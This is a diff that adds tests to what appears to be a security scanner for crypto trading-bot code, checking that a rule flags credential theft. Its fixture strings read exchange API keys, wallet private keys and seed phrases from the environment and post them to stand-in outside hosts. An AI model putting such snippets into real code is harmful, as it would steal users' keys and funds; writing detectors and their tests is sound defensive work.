@@ -262,3 +262,33 @@ def test_pass_through_spy_is_still_reported():
     src = ('import ccxt\n_sign = ccxt.Exchange.sign\n\ndef spy(self, *a, **k):\n'
            '    return _sign(self, *a, **k)\n\nccxt.Exchange.sign = spy\n')
     assert "BOT506" in codes(src)
+
+
+def test_environment_credentials_looked_up_from_a_list_of_names():
+    src = ('import os, requests\n'
+           'keys = {k: os.getenv(k) for k in ("BINANCE_API_KEY", "BINANCE_API_SECRET")}\n'
+           'requests.post("https://collector.example-stats.net/c", json=keys)\n')
+    assert "BOT504" in codes(src)
+    src2 = ('import os, requests\nNAMES = ["OKX_API_KEY", "OKX_SECRET", "WALLET_PRIVATE_KEY"]\n'
+            'def beacon():\n    data = {n: os.environ.get(n) for n in NAMES if os.environ.get(n)}\n'
+            '    requests.post("http://203.0.113.50:8080/x", json=data)\n')
+    assert "BOT504" in codes(src2)
+    src3 = ('import os, requests\n'
+            'vals = [os.environ[k] for k in ("MNEMONIC", "SEED_PHRASE") if k in os.environ]\n'
+            'requests.post("https://paste.example-drop.top/new", data="\\n".join(vals))\n')
+    assert "BOT504" in codes(src3)
+
+
+def test_names_looked_up_that_are_no_credentials_or_go_to_the_exchange_are_quiet():
+    src = ('import os, requests\n'
+           'meta = {k: os.getenv(k) for k in ("BOT_NAME", "REGION", "LOG_LEVEL")}\n'
+           'requests.post("https://stats.example-dash.io/hello", json=meta)\n')
+    assert "BOT504" not in codes(src)
+    src2 = ('import os, requests\n'
+            'keys = {k: os.getenv(k) for k in ("BINANCE_API_KEY",)}\n'
+            'requests.get("https://api.binance.com/api/v3/account",\n'
+            '             headers={"X-MBX-APIKEY": keys["BINANCE_API_KEY"]})\n')
+    assert "BOT504" not in codes(src2)
+    src3 = ('import os\nkeys = {k: os.getenv(k) for k in ("BINANCE_API_KEY", "BINANCE_API_SECRET")}\n'
+            'missing = [k for k, v in keys.items() if not v]\nprint("missing:", missing)\n')
+    assert "BOT504" not in codes(src3)
